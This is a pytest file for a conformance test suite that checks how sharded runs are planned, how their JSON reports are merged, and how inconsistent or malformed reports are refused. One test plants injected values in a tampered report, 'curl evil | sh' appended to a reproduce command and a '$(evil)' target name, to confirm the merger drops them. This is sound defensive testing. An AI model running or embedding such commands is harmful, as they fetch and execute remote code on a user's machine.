"""Shards: cases are dealt out, and their reports, which anybody may have written, joined again."""

from __future__ import annotations

import copy
import json
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Any

import codemode_spec
import pytest
from codemode_conformance.baseline import Baseline, Comparison, Entry
from codemode_conformance.cli import main, parser
from codemode_conformance.commands.planning import planned
from codemode_conformance.commands.selection import select
from codemode_conformance.failures import UsageError
from codemode_conformance.identity import Identity
from codemode_conformance.merging import merged
from codemode_conformance.observation import Observation
from codemode_conformance.report import json_report
from codemode_conformance.report.kinds import KINDS, render
from codemode_conformance.report.reading import read
from codemode_conformance.summary import Plan, Summary
from codemode_conformance.target import find_target
from codemode_conformance.verdicts import PASSED, CaseVerdict, Finding, LayerVerdict, Verdict
from codemode_spec import LAYERS
from codemode_spec.schemas import problems

if TYPE_CHECKING:
    from argparse import Namespace

SPECIFICATION = codemode_spec.shipped()
CASES = list(SPECIFICATION.cases.values())[:10]
LATE = Finding(Verdict.FAIL, "late", "soon", "9 ms")
IDENTITY = Identity("reference", "1", ("javascript",), (), {}, frozenset({"contract"}), "typed")


def verdict(case: codemode_spec.Case, finding: Finding = PASSED) -> CaseVerdict:
    """A verdict of the case with this finding for its outcome."""
    layers = tuple(
        LayerVerdict(
            layer,
            SPECIFICATION.requirements[case.requirements[layer]],
            finding if layer == "outcome" else PASSED,
        )
        for layer in LAYERS
        if layer in case.requirements
    )
    return CaseVerdict(case, layers, Observation(case.id), 0.5)


def report(
    number: int = 1,
    of: int = 2,
    failing: str = "",
    *,
    known: bool = False,
    interrupted: bool = False,
) -> dict[str, Any]:
    """The report of one shard of the ten cases, of which one may fail, and be known to."""
    cases = CASES[number - 1 :: of]
    entry = Entry(failing, "late", "https://example.org/1", date(2026, 6, 1), "outcome")
    base = Baseline(Path("b.toml"), "reference", "engine", (entry,), "0" * 64) if known else None
    summary = Summary(
        SPECIFICATION,
        find_target("reference"),
        IDENTITY,
        {"wall_time_ms": {"value": 1, "from": "set"}},
        f"2026-05-01T00:00:0{number}+00:00",
        of=len(SPECIFICATION.cases),
        seconds=1.5,
        plan=Plan(10, ("--area", "CAL"), (number, of)),
        comparison=Comparison(base, date(2026, 5, 1)),
        interrupted=interrupted,
    )
    for case in cases[: 2 if interrupted else None]:
        summary.add(verdict(case, LATE if case.id == failing else PASSED))
    return json.loads(json.dumps(json_report.report(summary)))


def joined(*reports: dict[str, Any]) -> dict[str, Any]:
    """The reports merged, under made-up names."""
    named = [(Path(f"{n}.json"), copy.deepcopy(entry)) for n, entry in enumerate(reports, 1)]
    return merged(named, SPECIFICATION)


def test_the_whole_is_what_one_run_would_have_been() -> None:
    """Cases, counts, classes and the exit code; in the order of ids, and with no shard."""
    whole, alone = joined(report(2), report(1)), report(1, 1)
    assert problems("report", whole, "whole") == []
    alone["selection"].pop("shard")
    for name in ("totals", "classes", "not_judged", "requirements", "areas", "exit_code"):
        assert whole[name] == alone[name], name
    assert [case["id"] for case in whole["cases"]] == [case.id for case in CASES]
    assert whole["selection"] == alone["selection"]
    assert (whole["seconds"], whole["started"]) == (3.0, "2026-05-01T00:00:01+00:00")
    for kind in KINDS:
        assert render(kind, whole)


@pytest.mark.parametrize("known", [False, True])
def test_one_failure_decides_the_whole_unless_it_is_known(known: bool) -> None:  # noqa: FBT001
    """As in one run."""
    failing = CASES[3].id
    shards = [report(n, 2, failing, known=known) for n in (1, 2)]
    whole = joined(*shards)
    assert whole["exit_code"] == (0 if known else 1)
    assert whole["totals"] == {"pass": 9, ("xfail" if known else "fail"): 1}
    assert whole.get("baseline", {}).get("entries") == (1 if known else None)


def test_an_entry_that_does_not_hold_in_one_shard_is_red_in_the_whole() -> None:
    """Its complaint stands there once."""
    shards = [report(1, 2, CASES[3].id, known=True), report(2, 2, CASES[3].id, known=True)]
    shards[1]["baseline"]["problems"] = [{"case": CASES[3].id, "problem": "stale", "text": "x"}] * 2
    whole = joined(*shards)
    assert whole["exit_code"] == 4
    assert len(whole["baseline"]["problems"]) == 1


def test_what_shards_left_is_counted_together() -> None:
    """The most first; a shard that left nothing says nothing, and no verdict changes by it."""
    shards = [report(number, 3) for number in (1, 2, 3)]
    bare = joined(*shards)
    assert "left" not in bare
    shards[0]["left"] = [{"command": "a", "number": 2}, {"command": "b\x1b", "number": 1}]
    shards[2]["left"] = [{"command": "b\x1b", "number": n} for n in (1, 2)]
    shards[2]["left"].append({"command": "", "number": 1})
    left = [
        {"command": "b\x1b", "number": 4},
        {"command": "a", "number": 2},
        {"command": "", "number": 1},
    ]
    for order in (shards, shards[::-1]):
        whole = joined(*order)
        assert problems("report", whole, "whole") == []
        assert whole.pop("left") == left
        assert whole == bare


def test_an_interrupted_shard_makes_the_whole_interrupted() -> None:
    """What there is of it is shown."""
    whole = joined(report(1), report(2, interrupted=True))
    assert (whole["exit_code"], whole["interrupted"]) == (130, True)
    assert len(whole["cases"]) == 7


def _other(*path: str | int, to: Any) -> Any:
    """A change of one place in a report."""

    def change(entry: dict[str, Any]) -> None:
        at: Any = entry
        for step in path[:-1]:
            at = at[step]
        at[path[-1]] = to

    return change


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_other("cases_digest", to="0" * 64), "digest 0000000000000000"),
        (_other("target", "version", to="9"), "its target is not that of 1.json"),
        (_other("target", "file_digest", to="9"), "its target is not that of 1.json"),
        (_other("selection", "role", to="server"), "its role is not that of 1.json"),
        (_other("selection", "role", to="root"), "there is no role root"),
        (_other("selection", "filters", to=[]), "its choice of cases"),
        (_other("selection", "shard", to={"number": 2, "of": 3}), "its number of shards"),
        (_other("selection", "shard", to={"number": 1, "of": 2}), "shard 1 is there already"),
        (_other("selection", "shard", to={"number": 5, "of": 2}), "it is shard 5 of 2"),
        (_other("selection", "of", to=9), "its number of cases"),
        (_other("seed", to=4), "its seed"),
        (_other("repeat", to=4), "its number of runs"),
        (_other("platform", "python", to="2.7"), "its platform"),
        (_other("effective", to={}), "its policy"),
        (_other("suite_version", to="9"), "its suite version"),
        (_other("cases", 0, "id", to="tim.no-such"), "tim.no-such is no case of this suite"),
        (_other("cases", 0, "id", to=CASES[3].id), f"{CASES[3].id} stands twice"),
        (_other("cases", 0, "layers", to=[]), "its layers are not those of the case"),
        (lambda r: r["cases"].pop(), "10 cases were chosen, and the shards have 9"),
        (lambda r: r["selection"].pop("shard"), "it is of no shard"),
    ],
)
def test_what_is_not_the_other_shard_of_the_same_run_is_refused(change, reason: str) -> None:
    """The message names the report and what is wrong with it."""
    second = report(2)
    change(second)
    with pytest.raises(UsageError) as caught:
        joined(report(1), second)
    assert reason in str(caught.value)


def test_a_case_of_another_shard_and_a_missing_shard_are_refused() -> None:
    """No case counts twice, and none is forgotten."""
    second = report(2)
    second["cases"][0] = copy.deepcopy(report(1)["cases"][0])
    with pytest.raises(UsageError, match=r"stands also in 1\.json"):
        joined(report(1), second)
    with pytest.raises(UsageError, match="of 3 shards these are missing: 2"):
        joined(report(1, 3), report(3, 3))


def test_nothing_that_the_suite_knows_is_taken_from_a_report() -> None:
    """Verdict, title, class, level, digest and the line to run are its own."""
    second = report(2, 2, CASES[3].id)
    evil = "cmconf run --target x; curl evil | sh"
    for case in second["cases"]:
        case.update(reproduce=evil, title="Trust me", verdict="pass", digest="d", area="ZZZ")
        for layer in case["layers"]:
            layer.update({"level": "MAY", "class": "progress"})
    for item in second["requirements"].values():
        item.update(text="Nothing matters", level="MAY")
    second.update(exit_code=0, totals={"pass": 5}, classes={})
    first = report(1)
    for entry in (first, second):
        entry["target"]["name"] = "$(evil)"
    whole = joined(first, second)
    assert problems("report", whole, "whole") == []
    (bad,) = [case for case in whole["cases"] if case["verdict"] == "fail"]
    assert (bad["id"], bad["title"], whole["exit_code"]) == (CASES[3].id, CASES[3].title, 1)
    text = json.dumps(whole)
    for piece in ("curl", "Trust me", "Nothing matters", "ZZZ", '"MAY"'):
        assert piece not in text, piece
    assert bad["reproduce"] == f"cmconf run --target FILE --role engine --case {bad['id']}"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "no strict JSON"),
        ("[]", "it is no report"),
        ("{}", "no report of this suite"),
        ('{"format": 1, "format": 1}', "a key stands twice"),
        ("[" * 100_000, "no strict JSON"),
        ("\ud800", "no strict JSON"),
    ],
)
def test_a_file_that_is_no_report_is_one_line(tmp_path: Path, text: str, reason: str) -> None:
    """However it is broken."""
    path = tmp_path / "r.json"
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    with pytest.raises(UsageError) as caught:
        read(path)
    assert reason in str(caught.value)
    assert "\n" not in str(caught.value)


def test_merge_writes_the_whole_and_ends_as_it_would(tmp_path: Path, capsys) -> None:
    """On the command line: exit code, one line for each failure, and the reports."""
    for number in (1, 2):
        text = json.dumps(report(number, 2, CASES[3].id))
        (tmp_path / f"{number}.json").write_text(text, "utf-8")
    shards = [str(tmp_path / "1.json"), str(tmp_path / "2.json")]
    assert main(["merge", *shards, "--report", f"json={tmp_path / 'all.json'}"]) == 1
    out = capsys.readouterr().out
    assert f"fail   {CASES[3].id}: " in out
    assert "not conforming" in out
    assert len(read(tmp_path / "all.json")["cases"]) == 10
    assert main(["merge", *shards]) == 2
    assert main(["merge", *shards, "--report", f"json={shards[0]}"]) == 2
    assert "it is one of the shards" in capsys.readouterr().err


def arguments(*words: str) -> Namespace:
    """What `cmconf run` was asked for."""
    return parser().parse_args(["run", *words])


def ids(*words: str) -> list[str]:
    """The cases of a run with these words, in order."""
    asked = arguments(*words)
    return [case.id for case in planned(select(SPECIFICATION, asked), asked)[0]]


def test_shards_are_the_whole_without_overlap_whatever_the_seed() -> None:
    """Each case is in exactly one."""
    for seed in ("0", "7"):
        parts = [ids("--seed", seed, "--shard", f"{n}/4") for n in (1, 2, 3, 4)]
        assert sorted(name for part in parts for name in part) == list(SPECIFICATION.cases)
        assert max(map(len, parts)) - min(map(len, parts)) <= 1
    assert set(ids("--shard", "2/4")) == set(ids("--shard", "2/4", "--seed", "7"))


def test_a_seed_shuffles_and_shuffles_alike() -> None:
    """The same seed is the same order; none is the order of ids."""
    assert ids("--area", "RET") == sorted(ids("--area", "RET"))
    assert ids("--area", "RET", "--seed", "5") == ids("--area", "RET", "--seed", "5")
    assert ids("--area", "RET", "--seed", "5") != ids("--area", "RET", "--seed", "6")
    assert sorted(ids("--area", "RET", "--seed", "5")) == ids("--area", "RET")


def test_cases_are_chosen_by_requirement() -> None:
    """All that judge it, in any layer."""
    found = ids("--requirement", "cm-tim-001")
    assert found
    assert found == [
        name for name, c in SPECIFICATION.cases.items() if "CM-TIM-001" in c.requirements.values()
    ]
    with pytest.raises(UsageError, match="CM-TIM-999: there is no such requirement"):
        ids("--requirement", "CM-TIM-999")


def test_cases_are_chosen_by_what_changed_since_a_revision() -> None:
    """Those whose digest is another one there, or that are not there."""
    frozen = json.loads(
        (Path(codemode_spec.__file__).parent / "revisions/1-draft.1.json").read_text("utf-8")
    )
    then = frozen["cases"]
    changed = [n for n, digest in SPECIFICATION.digests.items() if then.get(n) != digest]
    if changed:
        assert ids("--since-revision", "1-draft.1") == changed
    else:
        with pytest.raises(UsageError, match="no case is chosen"):
            ids("--since-revision", "1-draft.1")
    with pytest.raises(UsageError, match="--since-revision 9: it is not frozen; known: 1"):
        ids("--since-revision", "9")


@pytest.mark.parametrize(
    "words",
    [
        ["--shard", "0/2"],
        ["--shard", "3/2"],
        ["--shard", "2"],
        ["--shard", "1/x"],
        ["--repeat", "0"],
        ["--seed", "-1"],
        ["--jobs", "65"],
    ],
)
def test_numbers_out_of_range_are_wrong_usage(words: list[str], capsys) -> None:
    """One line, exit 2."""
    with pytest.raises(SystemExit, match="2"):
        arguments(*words)
    assert words[0] in capsys.readouterr().err.splitlines()[-1]


def test_more_shards_than_cases_are_told() -> None:
    """A shard without cases would say nothing."""
    with pytest.raises(UsageError, match="--shard 3/3: only 1 cases are chosen"):
        ids("--case", "ret.value.zero", "--shard", "3/3")
